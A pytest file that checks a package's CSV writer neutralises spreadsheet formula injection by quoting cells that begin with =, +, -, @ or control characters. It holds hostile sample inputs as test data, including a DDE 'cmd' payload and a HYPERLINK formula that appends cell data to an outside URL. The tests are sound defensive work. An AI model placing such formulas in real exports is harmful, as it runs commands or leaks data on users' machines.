"""Names of files and classes may come from anybody: a spreadsheet that opens our CSV files runs none of them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ghostzoo._utils.spreadsheet import csv_row
from ghostzoo.cli.results import CsvWriter
from ghostzoo.predictions import Prediction

FORMULAS = [
    '=HYPERLINK("http://example.com/"&A1, "see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


def read_row(row: str) -> list[str]:
    assert row.endswith("\n")
    (cells,) = csv.reader(io.StringIO(row, newline=""))
    return cells


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert read_row(csv_row([formula, -1])) == [f"'{formula}", "-1"]


@pytest.mark.parametrize("value", [-1, -0.5, 0.25, "", "a=b", "cat, -1", " x", "'=1", "http://x/?a=1", "n02123045"])
def test_all_else_stays_as_it_is(value: object) -> None:
    assert read_row(csv_row(["first", value])) == ["first", str(value)]


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_name_with_a_line_end_begins_no_row(end: str) -> None:
    assert read_row(csv_row([f"a{end}=1+1", 1])) == [f"a{end}=1+1", "1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_predictions_hold_no_formulas(formula: str) -> None:
    stream = io.StringIO(newline="")
    CsvWriter(stream).write(formula, [Prediction(3, formula, 0.25, None), Prediction(4, "cat", 0.125, "n02123045")])
    _, first, second = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert first == [f"'{formula}", "1", "3", f"'{formula}", "0.25", ""]
    assert second == [f"'{formula}", "2", "4", "cat", "0.125", "n02123045"]


def test_every_csv_file_of_the_package_is_written_with_it() -> None:
    """The training's metrics need it not: they are numbers."""
    root = Path(__file__).parents[2]
    writing = {
        path.relative_to(root).as_posix()
        for folder in ("ghostzoo", "hub", "exporters")
        for path in (root / folder).rglob("*.py")
        if any(name in path.read_text(encoding="utf-8") for name in ("csv.writer(", "csv.DictWriter("))
    }
    assert writing == {"ghostzoo/_utils/spreadsheet.py", "exporters/training/reporting.py"}
